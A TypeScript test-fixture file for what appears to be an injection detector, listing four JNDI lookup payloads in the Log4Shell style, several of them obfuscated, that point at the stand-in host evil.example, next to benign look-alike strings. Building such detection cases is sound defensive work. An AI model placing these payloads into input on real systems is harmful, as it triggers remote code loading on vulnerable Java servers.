import type { FamilyCases } from "./mod.ts";

/** jndi: hand-written. */
export const cases: FamilyCases = {
  pairs: [],
  attacks: [
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}",
    "${j${env:NOPE:-n}di:dns://evil.example}",
  ],
  twins: [
    "${name}",
    "JNDI is a Java API",
    "${price:-0}",
  ],
};
